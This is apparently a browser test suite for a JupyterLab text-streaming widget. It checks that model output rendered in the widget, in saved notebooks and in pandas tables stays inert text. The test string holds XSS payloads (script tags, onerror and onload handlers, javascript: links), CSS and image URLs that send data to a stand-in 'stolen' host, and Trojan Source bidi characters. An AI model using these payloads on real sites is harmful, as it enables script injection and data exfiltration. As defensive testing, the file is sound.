"""Hostile text of a model in a real JupyterLab: in the widget, in a saved notebook, in a DataFrame.

Nothing of it runs, nothing is fetched, nothing is covered or moved, and no letter is read where it does not stand.
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat
import pytest
from notebooks import Jupyter, Notebook
from playwright.sync_api import Dialog, Request
from story import wait_for_state

pytestmark = pytest.mark.browser

OUT = "http://127.0.0.1:9/stolen"
HOSTILE = f"""# Hello

<script>window.pwned = 1</script><img src={OUT} onerror="window.pwned = 1"><svg onload="window.pwned = 1">
<style>body {{ background: url({OUT}); display: none }}</style><iframe src="{OUT}"></iframe>
<form action={OUT}><input name=attributes autofocus onfocus="window.pwned = 1"></form>
<a id="jupyter-config-data" name="jupyterapp" class="jp-Notebook nbstream-stop" href="javascript:window.pwned=1">x</a>

[a](javascript:window.pwned=1) [b](data:text/html,<script>window.pwned=1</script>) ![c]({OUT}?q=secret)
![d](data:image/svg+xml,x) [e](/lab?reset) <{OUT}> \\(\\href{{javascript:window.pwned=1}}{{f}}\\) $\\cssId{{x}}{{y}}$

```python
if admin: \u202e\u2066# only if an admin\u2069 \u2066return
```

{"> " * 400}deep

{"*a [b `c " * 400}

end of it"""
CELL = f"""
import nbstream, pandas as pd
pd.set_option("display.max_colwidth", None)
gen = nbstream.generate("Hello", nbstream.Replay.text({HOSTILE!r}, events_per_s=0))
gen.wait()
gen
"""
# The letters of a line as they stand on the screen, from left to right.
READ = """node => {
  const found = [];
  const walk = document.createTreeWalker(node, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) for (let at = 0; at < walk.currentNode.length; at++) {
    if (!/[a-z]/i.test(walk.currentNode.data[at])) continue;
    const range = document.createRange();
    range.setStart(walk.currentNode, at);
    range.setEnd(walk.currentNode, at + 1);
    found.push([range.getBoundingClientRect().left, walk.currentNode.data[at]]);
  }
  return found.sort((a, b) => a[0] - b[0]).map(pair => pair[1]).join("");
}"""


class Watched:
    """What a page asks for and says while hostile text is on it."""

    def __init__(self, notebook: Notebook) -> None:
        self.page = notebook.page
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        self.page.on("request", self.request)
        self.page.on("dialog", self.dialog)

    def request(self, request: Request) -> None:
        self.asked.append(request.url)

    def dialog(self, dialog: Dialog) -> None:
        if dialog.type != "beforeunload":
            self.dialogs.append(dialog.message)
        dialog.accept()

    def harmless(self, root: str, formulas: int = 0) -> None:
        page = self.page
        assert page.evaluate("() => window.pwned") is None
        assert not self.dialogs
        assert not [url for url in self.asked if "stolen" in url or "127.0.0.1:9" in url]
        bad = "script, img, :not(.nbstream-spark) > svg, iframe, form, object, [onerror], [onload], [id]"
        assert page.locator(root).first.locator(bad).count() == 0
        assert not any("stolen" in style for style in page.locator(f"{root} style").all_inner_texts())
        assert page.locator(f"{root} mjx-container").count() == formulas
        links = page.locator(f"{root} [href]").evaluate_all("nodes => nodes.map(node => node.getAttribute('href'))")
        assert all(link.startswith("http://127.0.0.1:9/") for link in links)
        assert page.evaluate("() => getComputedStyle(document.body).display") != "none"
        assert page.evaluate("() => typeof window.jupyterapp.commands") == "object"


def test_hostile_text_is_only_text_in_the_live_widget(lab: Jupyter) -> None:
    with lab.shared(CELL, "gen.history[['text', 'reason']]") as notebook:
        watched = Watched(notebook)
        notebook.run(0)
        wait_for_state(notebook, "finished")
        notebook.page.wait_for_function(
            "() => document.querySelector('section.nbstream .nbstream-text').textContent.includes('end of it')"
        )
        watched.harmless("section.nbstream")
        line = notebook.text.locator("pre code")
        assert line.evaluate(READ) == "ifadminonlyifanadminreturn"
        assert line.locator(".nbstream-turn").count() == 4
        shown = "node => getComputedStyle(node, '::before').content"
        assert "U+202E" in line.locator(".nbstream-turn").first.evaluate(f"node => ({shown})(node) + node.title")
        notebook.text.locator("a", has_text="c").first.scroll_into_view_if_needed()
        notebook.button("toggle").click()
        notebook.page.wait_for_selector(".nbstream-text.nbstream-plain")
        watched.harmless("section.nbstream")
        source: str = notebook.text.evaluate("node => node.textContent")
        assert source == HOSTILE

        notebook.run(1)
        table = notebook.page.locator("table.dataframe")
        table.wait_for()
        assert table.locator("td").count() == 2
        assert "<script>window.pwned" in table.inner_text()
        watched.harmless("table.dataframe", formulas=2)  # pandas lets MathJax in, whose safe mode holds


def test_hostile_text_is_only_text_in_a_saved_notebook(lab: Jupyter) -> None:
    with lab.notebook(CELL) as notebook:
        notebook.run(0)
        wait_for_state(notebook, "finished")
        saved = notebook.save()
    outputs = saved["cells"][0]["outputs"]
    assert {kind for output in outputs for kind in output.get("data", {})} <= {
        "application/vnd.jupyter.widget-view+json",
        "text/html",
        "text/plain",
    }
    path = Path(lab.notebooks / notebook.name)
    reopened = nbformat.from_dict(json.loads(path.read_text()))
    reopened["metadata"].pop("widgets", None)
    with lab.notebook() as empty:
        nbformat.write(reopened, lab.notebooks / empty.name)
        watched = Watched(empty)
        empty.reload()
        empty.page.wait_for_selector(".nbstream-static pre", state="visible")
        text = empty.page.locator(".nbstream-static pre").inner_text()
        assert "end of it" in text
        assert "<U+202E>" in text
        assert "\u202e" not in text
        watched.harmless(".nbstream-static")
